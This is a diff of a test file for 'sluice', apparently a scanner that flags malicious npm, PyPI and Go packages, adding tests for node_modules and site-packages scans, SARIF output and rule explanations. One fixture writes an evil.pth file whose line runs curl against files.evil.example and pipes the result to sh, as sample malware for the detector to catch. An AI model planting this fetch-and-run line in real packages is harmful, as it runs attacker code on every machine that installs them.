@@ -1,8 +1,11 @@
-import { existsSync } from 'node:fs'
+import { spawn } from 'node:child_process'
+import { once } from 'node:events'
+import { existsSync, readdirSync } from 'node:fs'
 import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { fileURLToPath } from 'node:url'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
 import { goZip, tarball, wheel } from '../../test/harness/archives.ts'
 import { sluice } from '../../test/harness/cli.ts'
 import { startFakeNpm } from '../../test/fakes/npm.ts'
@@ -16,7 +19,10 @@ const at = (name: string): string => join(folder, name)
 
 beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'sluice-cli-'))
-  npm = await startFakeNpm([{ name: 'left-pad', version: '1.3.0', files: { 'index.js': 'module.exports = 1\n' } }])
+  npm = await startFakeNpm([
+    { name: 'left-pad', version: '1.3.0', files: { 'index.js': 'module.exports = 1\n' } },
+    { name: 'bad', version: '1.0.0', manifest: { scripts: BAD.scripts }, files: {} },
+  ])
   await mkdir(at('good/node_modules/other'), { recursive: true })
   await mkdir(at('empty'))
   await writeFile(at('good/package.json'), JSON.stringify({ name: 'good', version: '1.0.0' }))
@@ -84,11 +90,16 @@ describe('sluice scan', () => {
   it('writes SARIF 2.1.0', async () => {
     const ran = await scan([at('bad.tgz'), at('good'), '--format', 'sarif'])
     expect(ran.code).toBe(1)
-    const { version, runs: [only] } = ran.json() as { version: string; runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; level: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[] }[] }
-    expect(version).toBe('2.1.0')
-    expect(only?.tool.driver.rules.map(({ id }) => id)).toEqual(expect.arrayContaining(['downloads-and-runs', 'thin-package']))
-    expect(only?.results[0]).toMatchObject({ ruleId: 'downloads-and-runs', level: 'error', locations: [{ physicalLocation: { region: { startLine: 1 } } }] })
-    expect(only?.results[0]?.locations[0]?.physicalLocation.artifactLocation.uri).toMatch(/^file:\/\/\/.*bad\.tgz\/package\.json$/)
+    expect(ran.json()).toMatchObject({
+      version: '2.1.0',
+      runs: [{
+        tool: { driver: { rules: expect.arrayContaining([expect.objectContaining({ id: 'downloads-and-runs' })]) } },
+        results: expect.arrayContaining([expect.objectContaining({
+          ruleId: 'downloads-and-runs', level: 'error', codeFlows: [expect.any(Object)],
+          locations: [expect.objectContaining({ physicalLocation: expect.objectContaining({ artifactLocation: { uri: 'bad.tgz/package.json' } }) })],
+        })]),
+      }],
+    })
   })
 
   it('admits packages by name, and keeps the verdict in a data folder that is named', async () => {
@@ -99,6 +110,82 @@ describe('sluice scan', () => {
     expect(ran.err).toContain('has no version 9.9.9')
     const traced = await sluice(['trace', 'npm:left-pad', '--all', '--json'], { gate: { data } })
     expect(traced.json()).toMatchObject({ lines: [{ entry: { kind: 'decided', reason: 'clean', version: '1.3.0' } }] })
+  })
+
+  it('tells of a verdict that was kept what it told when it was new', async () => {
+    const data = at('twice')
+    const tell = async () => ((await scan(['npm:bad@1.0.0', '--json'], data)).json() as { elapsedMs: number }[]).map((report) => ({ ...report, elapsedMs: 0 }))
+    const [fresh] = await tell()
+    expect(fresh).toMatchObject({ level: 'malicious', parts: expect.arrayContaining([expect.any(Object)]) })
+    expect(fresh).toHaveProperty('findings.0.evidence.0.role', 'source')
+    expect(fresh).toHaveProperty('indicators.0.value', expect.stringContaining('files.evil.example'))
+    expect(await tell()).toEqual([fresh])
+  })
+
+  it('examines each package of a node_modules, and ends with a count', async () => {
+    await mkdir(at('app/node_modules/@acme/tool/node_modules/bad'), { recursive: true })
+    await mkdir(at('app/node_modules/broken'))
+    await writeFile(at('app/node_modules/@acme/tool/package.json'), JSON.stringify({ name: '@acme/tool', version: '2.0.0' }))
+    await writeFile(at('app/node_modules/@acme/tool/node_modules/bad/package.json'), JSON.stringify(BAD))
+    await writeFile(at('app/node_modules/broken/package.json'), '{')
+    const tree = await scan([at('app/node_modules'), '--json'])
+    expect(tree.code).toBe(1)
+    expect((tree.json() as { target: string; level: string }[]).map(({ target, level }) => [target.slice(at('app/').length), level])).toEqual([
+      ['node_modules/@acme/tool/node_modules/bad (npm:bad@1.0.0)', 'malicious'],
+      ['node_modules/@acme/tool (npm:@acme/tool@2.0.0)', 'clean'],
+      ['node_modules/broken', expect.any(String)],
+    ])
+    const shown = await sluice(['scan', at('app/node_modules')], { gate: { data: at('data') }, tty: true, env: { NO_COLOR: '1' } })
+    expect(shown.out).toMatch(/3 targets: 1 malicious, /)
+    expect(shown.err).toContain('examining 1 of 3: @acme/tool/node_modules/bad')
+  })
+
+  it('examines each distribution of a site-packages, and what belongs to none', async () => {
+    const info = 'env/site-packages/good-1.0.dist-info'
+    await mkdir(at(info), { recursive: true })
+    await writeFile(at('env/site-packages/good.py'), 'x = 1\n')
+    await writeFile(at(`${info}/METADATA`), 'Metadata-Version: 2.1\nName: good\nVersion: 1.0\n')
+    await writeFile(at(`${info}/RECORD`), 'good.py,,\n')
+    await writeFile(at('env/site-packages/evil.pth'), 'import os; os.system("curl -s http://files.evil.example/x.sh | sh")\n')
+    const ran = await scan([at('env/site-packages'), '--json'])
+    expect((ran.json() as { target: string; level: string }[]).map(({ target, level }) => [target.slice(at('env/').length), level])).toEqual([
+      ['site-packages/good-1.0.dist-info (pypi:good==1.0)', 'clean'],
+      ['site-packages/(files of no distribution)', 'malicious'],
+    ])
+  })
+
+  it('knows modules of a cache by their folders', async () => {
+    await mkdir(at('mod/cache/download'), { recursive: true })
+    await mkdir(at('mod/mod.example/!x@v1.0.0'), { recursive: true })
+    await writeFile(at('mod/mod.example/!x@v1.0.0/x.go'), 'package x\n')
+    expect((await scan([at('mod')])).out).toMatch(/mod\.example\/!x@v1\.0\.0 \(go:mod\.example\/X@v1\.0\.0\) {2}clean/)
+  })
+
+  it.each<[string[], number, string]>([
+    [['--explain', 'sends-environment'], 0, 'Honest reports pick the variables they need.'],
+    [['--explain'], 0, 'sends-environment'],
+    [['--explain', 'nothing-like-it'], 2, 'sends-environment'],
+  ])('%j', async (args, code, says) => {
+    const ran = await sluice(['scan', ...args])
+    expect(ran.code).toBe(code)
+    expect(ran.out).toContain(says)
+    const data = (await sluice(['scan', ...args, '--json'])).json() as unknown
+    expect([data].flat()).toContainEqual(expect.objectContaining({ detector: 'sends-environment', version: expect.any(Number), ecosystems: ['npm', 'pypi', 'go'], why: expect.any(Array) }))
+  })
+
+  it.skipIf(process.platform === 'win32')('leaves nothing behind when it is interrupted', async () => {
+    const place = at('interrupted')
+    await mkdir(place)
+    const child = spawn(process.execPath, [fileURLToPath(new URL('../main.ts', import.meta.url)), 'scan', at('app/node_modules'), at('app/node_modules')], {
+      cwd: place, env: { PATH: process.env['PATH'], TMPDIR: place }, stdio: ['ignore', 'pipe', 'pipe'],
+    })
+    const ended = once(child, 'exit')
+    let out = ''
+    child.stdout.on('data', (chunk: Buffer) => { out += chunk.toString() })
+    await vi.waitUntil(() => readdirSync(place).some((name) => existsSync(join(place, name, 'sluice.db'))), { timeout: 10_000, interval: 5 })
+    child.kill('SIGINT')
+    expect(await ended).toEqual([null, 'SIGINT'])
+    expect([readdirSync(place), out]).toEqual([[], ''])
   })
 
   it('leaves nothing behind where there is no data folder', async () => {
